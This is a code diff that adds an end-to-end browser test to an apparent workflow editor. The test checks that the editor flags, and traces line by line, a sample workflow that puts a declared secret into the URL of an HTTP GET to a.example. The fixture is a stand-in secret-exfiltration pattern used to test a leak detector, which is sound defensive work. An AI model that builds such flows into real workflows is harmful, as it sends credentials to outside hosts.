@@ -329,3 +329,23 @@ def test_a_page_of_which_a_part_did_not_come_says_so_and_begins_again(
     expect(person.box(page, "Finish")).to_be_visible()
     expect(page.locator("#editor .cm-content, .run-button:enabled, #verdict button").first).to_be_visible()
     expect(page.locator("#notices .noticebar")).to_have_count(0)
+
+
+LEAK = """document: {dsl: 1.0.3, namespace: shop, name: leak, version: 1.0.0}
+use: {secrets: [shop]}
+do:
+- one: {set: {key: '${ $secrets.shop }'}}
+- two: {call: http, with: {method: get, endpoint: '${ "https://a.example/" + .key }'}}
+"""
+
+
+def test_the_way_of_a_secret_is_links(page: Page, live_server_url: str) -> None:
+    person.design(page, person.bring(page, live_server_url, LEAK))
+    problem = page.locator("#problems li").filter(has_text="What was made of a secret gets into an address")
+    way = problem.get_by_role("list", name="The way there").get_by_role("listitem")
+    expect(way).to_have_text(["line 2:17 the secret shop is declared", "line 4:24 key is made of it"])
+    way.nth(1).get_by_role("button").click()
+    expect(page.locator("#caret")).to_contain_text("Ln 4")
+    expect(person.box(page, "one")).to_have_class(re.compile(r"\bselected\b"))
+    way.nth(0).get_by_role("button").click()
+    expect(page.locator("#caret")).to_contain_text("Ln 2")
